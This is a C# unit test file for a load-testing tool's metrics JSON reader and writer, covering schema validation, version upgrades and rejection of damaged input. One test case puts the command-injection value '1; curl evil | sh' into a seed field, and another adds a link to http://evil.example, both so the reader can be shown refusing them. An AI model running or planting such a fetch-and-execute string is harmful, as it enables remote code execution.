using System.Text.Json.Nodes;
using Gauntlet.Metrics.Model;
using NJsonSchema;

namespace Gauntlet.Metrics.Tests.Model;

internal sealed class MetricsJsonTests
{
    private static readonly ThresholdResult Held = new("p(95) < 250ms", FigureUnit.Milliseconds, 12.5, 250, 237.5, 1, CheckOutcome.Pass, "holds");

    private static IEnumerable<TestCaseData> AllRuns()
    {
        yield return new TestCaseData(Runs.Typical()).SetArgDisplayNames("typical");
        yield return new TestCaseData(Runs.Empty()).SetArgDisplayNames("empty");
        yield return new TestCaseData(Runs.One()).SetArgDisplayNames("one");
        yield return new TestCaseData(Runs.OnlyFailures()).SetArgDisplayNames("only failures");
        yield return new TestCaseData(Runs.OnlyTimeouts()).SetArgDisplayNames("only timeouts");
        yield return new TestCaseData(Runs.Large()).SetArgDisplayNames("large");
    }

    [TestCaseSource(nameof(AllRuns))]
    [CancelAfter(30_000)]
    public async Task Write_AnyRun_IsValidAgainstTheSchema(LoadRun run, CancellationToken cancellation)
    {
        var schema = await JsonSchema.FromJsonAsync(MetricsJson.Schema, cancellation);

        var unclear = Held with { Actual = null, Margin = null, Outcome = CheckOutcome.Inconclusive };
        var json = MetricsJson.Write(Runs.Document(run) with { Thresholds = [Held, unclear], Resources = Runs.Resources, Scaling = Runs.Scaling });

        Assert.That(schema.Validate(json), Is.Empty);
        Assert.That(json, Does.Not.Contain("NaN").And.Not.Contain("Infinity"));
    }

    [Test]
    [CancelAfter(30_000)]
    public async Task Schema_DocumentWithAForeignOrMissingProperty_IsRefused(CancellationToken cancellation)
    {
        var schema = await JsonSchema.FromJsonAsync(MetricsJson.Schema, cancellation);
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!.AsObject();
        document["overall"]!["response"]!["median"] = 1;
        document.Remove("totals");

        Assert.That(schema.Validate(document.ToJsonString()), Is.Not.Empty);
    }

    [TestCaseSource(nameof(AllRuns))]
    public void Read_WhatWasWritten_IsTheSame(LoadRun run)
    {
        var json = MetricsJson.Write(Runs.Document(run) with { Thresholds = [Held], Resources = Runs.Resources, Scaling = Runs.Scaling });

        Assert.That(MetricsJson.Write(MetricsJson.Read(json)), Is.EqualTo(json));
    }

    [Test]
    public void Read_Version1_GetsWilsonIntervalsAndNoneForPercentiles()
    {
        var old = MetricsJson.Read(Version1());

        Assert.That(old.SchemaVersion, Is.EqualTo(2));
        Assert.That(old.Confidence, Is.Null);
        Assert.That(old.Overall.SuccessRate!.High, Is.GreaterThan(old.Overall.SuccessRate.Value));
        Assert.That(old.Overall.Response!.At(95)!.Value, Is.Not.Null);
        Assert.That(old.Overall.Response.At(95)!.Low, Is.Null);
    }

    [Test]
    public void Read_UnknownVersion_IsRefusedWithARemedy()
        => Assert.That(() => MetricsJson.Read("""{ "schemaVersion": 3 }""", "old.json"),
            Throws.TypeOf<MetricsFormatException>().With.Message.Contains("old.json has schemaVersion 3").And.Message.Contains("LoadTest"));

    [TestCase("")]
    [TestCase("[]")]
    [TestCase("{}")]
    [TestCase("""{ "schemaVersion": "2" }""")]
    [TestCase("""{ "schemaVersion": 2 }""")]
    [TestCase("""{ "schemaVersion": 1 }""")]
    [TestCase("""{ "schemaVersion": 2, "schemaVersion": 2 }""")]
    [TestCase("""{ "schemaVersion": 2, "header": """)]
    public void Read_DamagedDocument_IsRefusedWithARemedy(string json)
        => Assert.That(() => MetricsJson.Read(json), Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest"));

    [TestCase("load", "seed", "1; curl evil | sh")]
    [TestCase("load", "seed", "-1")]
    [TestCase("percentiles", "definition", "R7, see [here](http://evil.example)")]
    [TestCase("percentiles", "definition", "R1\n")]
    public void Read_ForeignTextWhereReportsShowAWordOfOurs_IsRefused(string section, string name, string text)
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
        document[section]![name] = text;

        Assert.That(
            () => MetricsJson.Read(document.ToJsonString()),
            Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest").And.Message.Not.Contains("evil"));
    }

    [TestCase("overall", "evil")]
    [TestCase("routes", "evil")]
    [TestCase("seconds", "evil")]
    [TestCase("overall", "success")]
    public void Read_KindOfFailureThatThereIsNot_IsRefused(string place, string kind)
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
        (document[place] is JsonArray list ? list[^1]! : document[place]!)["failuresByKind"]![kind] = 1;

        Assert.That(
            () => MetricsJson.Read(document.ToJsonString()),
            Throws.TypeOf<MetricsFormatException>().With.Message.Contains("LoadTest").And.Message.Not.Contains("evil"));
    }

    [TestCase("outcome", "\"sound\"")]
    [TestCase("outcome", "7")]
    [TestCase("unit", "7")]
    [TestCase("expression", "null")]
    public void Read_ThresholdThatSaysNothing_IsRefused(string name, string value)
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One()) with { Thresholds = [Held] }))!;
        document["thresholds"]![0]![name] = JsonNode.Parse(value);

        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>());
    }

    [Test]
    public void Read_NothingWhereAThresholdShouldBe_IsRefused()
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One()) with { Thresholds = [Held] }))!;
        document["thresholds"]![0] = null;

        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>());
    }

    /// <summary>A version before this one kept no thresholds, and one after it keeps more.</summary>
    [Test]
    public void Read_DocumentOfAnotherMinorVersion_IsRead()
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!.AsObject();
        document.Remove("thresholds");
        document["weather"] = "fair";

        Assert.That(MetricsJson.Read(document.ToJsonString()).Thresholds, Is.Null);
    }

    [Test]
    public void Read_NothingWhereARouteShouldBe_IsRefused()
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.One())))!;
        document["routes"]![0] = null;

        Assert.That(() => MetricsJson.Read(document.ToJsonString()), Throws.TypeOf<MetricsFormatException>());
    }

    [Test]
    public void Save_ExistingFile_IsReplacedAndLeavesNothingElse()
    {
        var folder = Directory.CreateTempSubdirectory("metrics-").FullName;
        try
        {
            var path = Path.Combine(folder, "metrics.json");
            File.WriteAllText(path, "old");

            MetricsJson.Save(Runs.Document(Runs.One()), path);

            Assert.That(Directory.GetFiles(folder), Is.EqualTo(new[] { path }));
            Assert.That(MetricsJson.Read(File.ReadAllText(path)).Overall.Requests, Is.EqualTo(1));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static string Version1()
    {
        var document = JsonNode.Parse(MetricsJson.Write(Runs.Document(Runs.Typical())))!.AsObject();
        document["schemaVersion"] = 1;
        document.Remove("confidence");
        foreach (var group in document["routes"]!.AsArray().Prepend(document["overall"]))
        {
            group!["successRate"] = (double)group["successRate"]!["value"]!;
            foreach (var percentile in group["response"]!["percentiles"]!.AsArray().Concat(group["service"]!["percentiles"]!.AsArray()))
            {
                percentile!.AsObject().Remove("low");
                percentile.AsObject().Remove("high");
            }
        }

        return document.ToJsonString();
    }
}
